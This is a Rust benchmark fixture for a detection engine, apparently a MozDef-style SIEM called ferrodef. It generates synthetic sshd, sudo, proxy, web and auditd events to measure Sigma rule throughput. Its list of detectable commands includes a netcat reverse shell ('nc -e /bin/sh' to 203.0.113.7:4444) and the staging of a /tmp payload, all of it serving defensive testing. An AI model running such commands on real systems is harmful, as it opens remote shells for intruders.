//! Benchmark events: ferrodef's normalized MozDef events as `ferrodef bench ingest` generates
//! them (sshd, sudo, proxy, web; `crates/ferrodef/src/bench.rs`), plus auditd execve events
//! as the auditd parser emits them. Shared by the criterion bench and the
//! `sigma_throughput` example (which also writes them as JSON lines for peer engines).

#![allow(dead_code)]

use serde_json::{json, Value};

/// The deterministic generator of `ferrodef bench ingest` (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
    fn ip(&mut self) -> String {
        format!(
            "{}.{}.{}.{}",
            [198, 203, 192, 10, 172, 185][self.below(6) as usize],
            self.below(256),
            self.below(256),
            1 + self.below(254)
        )
    }
}

const USERS: [&str; 8] = [
    "root", "admin", "alice", "bob", "deploy", "oracle", "test", "ubuntu",
];
const HOSTS: [&str; 6] = [
    "bastion-1.example.com",
    "bastion-2.example.com",
    "web-1.example.com",
    "web-2.example.com",
    "db-1.example.com",
    "proxy-1.example.com",
];
const URLS: [&str; 6] = [
    "/index.html",
    "/api/v1/login",
    "/wp-login.php",
    "/static/app.js",
    "/admin/",
    "/.env",
];
const UAS: [&str; 3] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
];

const TS: &str = "2026-11-30T10:00:00.000Z";

/// Event `i` of `ferrodef bench ingest`'s mix (same generator, fixed clock).
pub fn ingest_event(i: usize) -> Value {
    let mut r = Rng(0x9E37_79B9_7F4A_7C15 ^ (i as u64).wrapping_mul(0x1000_0000_01B3) | 1);
    let _spread = r.below(60_000);
    let run = "bench";
    let src = r.ip();
    let host = r.pick(&HOSTS);
    let user = r.pick(&USERS);
    let pid = 1000 + r.below(60000);
    match r.below(10) {
        0..=3 => {
            let (summary, success) = if r.below(4) == 0 {
                (
                    format!("Accepted publickey for {user} from {src} port {} ssh2: RSA SHA256:q1w2e3r4t5y6u7i8o9p0", 1024 + r.below(60000)),
                    true,
                )
            } else {
                (
                    format!(
                        "Failed password for invalid user {user} from {src} port {} ssh2",
                        1024 + r.below(60000)
                    ),
                    false,
                )
            };
            json!({"utctimestamp": TS, "receivedtimestamp": TS, "category": "syslog", "hostname": host, "processname": "sshd",
                   "processid": pid.to_string(), "severity": "INFO", "summary": summary, "tags": ["syslog"],
                   "details": {"program": "sshd", "sourceipaddress": src, "username": user,
                               "success": success, "benchrun": run}})
        }
        4 | 5 => {
            json!({"utctimestamp": TS, "receivedtimestamp": TS, "category": "syslog", "hostname": host, "processname": "sudo",
                   "severity": "NOTICE", "tags": ["syslog"],
                   "summary": format!("{user} : TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx", r.below(8)),
                   "details": {"program": "sudo", "username": user, "sourceipaddress": src, "benchrun": run}})
        }
        6 | 7 => {
            let action = r.pick(&["TCP_MISS", "TCP_HIT", "TCP_DENIED", "TCP_TUNNEL"]);
            let dst = r.pick(&[
                "example.org",
                "updates.example.net",
                "198.51.100.99",
                "cdn.example.com",
            ]);
            json!({"utctimestamp": TS, "receivedtimestamp": TS, "category": "proxy", "hostname": "proxy-1.example.com", "processname": "squid",
                   "severity": "INFO", "summary": format!("{src} {action} GET http://{dst}/"),
                   "details": {"sourceipaddress": src, "destination": format!("http://{dst}/"), "host": dst,
                               "method": "GET", "proxyaction": action, "status": 200 + 100 * (r.below(3) as i64),
                               "bytes": r.below(100_000), "useragent": r.pick(&UAS), "benchrun": run}})
        }
        _ => {
            let url = r.pick(&URLS);
            let status = [200, 200, 301, 404, 403, 500][r.below(6) as usize];
            json!({"utctimestamp": TS, "receivedtimestamp": TS, "category": "web", "hostname": host, "processname": "nginx",
                   "severity": "INFO", "summary": format!("{src} GET {url} {status}"),
                   "details": {"sourceipaddress": src, "method": "GET", "url": url, "status": status,
                               "bytes": r.below(50_000), "useragent": r.pick(&UAS), "benchrun": run}})
        }
    }
}

/// An auditd execve event as ferrodef's auditd parser emits it.
pub fn execve(exe: &str, args: &[&str]) -> Value {
    json!({
        "utctimestamp": TS, "receivedtimestamp": TS,
        "category": "execution", "hostname": "web-1.example.com", "processname": "auditd", "severity": "INFO",
        "summary": format!("execve {}", args.join(" ")), "tags": ["auditd"],
        "details": {"audittype": "SYSCALL", "recordtypes": ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"],
                    "syscall": "execve", "exe": exe, "args": args, "command": args.join(" "),
                    "cwd": "/home/alice", "uid": "1000", "auid": "1000", "username": "alice", "ses": "3",
                    "pid": "4242", "ppid": "4000", "success": true, "paths": [exe]}
    })
}

/// Everyday commands (match no corpus rule).
const BENIGN: [&[&str]; 10] = [
    &["ls", "-la"],
    &["cat", "notes.txt"],
    &["grep", "-r", "foo", "."],
    &["ps", "aux"],
    &["git", "status"],
    &["python3", "app.py"],
    &["make", "-j2"],
    &["vim", "notes.txt"],
    &["tar", "czf", "b.tgz", "dir"],
    &["id"],
];

/// Commands corpus rules detect (each matches at least one rule).
const SUSPICIOUS: [&[&str]; 5] = [
    &["base64", "-d", "/tmp/x.b64"],
    &["chmod", "+x", "/tmp/payload"],
    &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
    &["crontab", "-l"],
    &["whoami"],
];

/// The benchmark mix: `n` events, 80% `ferrodef bench ingest`'s generator, 20% auditd execve
/// of everyday commands. Matches (almost) nothing.
pub fn realistic_mix(n: usize) -> Vec<Value> {
    (0..n)
        .map(|i| {
            if i % 5 == 4 {
                let c = BENIGN[(i / 5) % BENIGN.len()];
                execve(&format!("/usr/bin/{}", c[0]), c)
            } else {
                ingest_event(i)
            }
        })
        .collect()
}

/// The same mix with every tenth event one that corpus rules detect.
pub fn matching_mix(n: usize) -> Vec<Value> {
    let mut v = realistic_mix(n);
    for (k, i) in (0..n).step_by(10).enumerate() {
        let c = SUSPICIOUS[k % SUSPICIOUS.len()];
        v[i] = execve(&format!("/usr/bin/{}", c[0]), c);
    }
    v
}
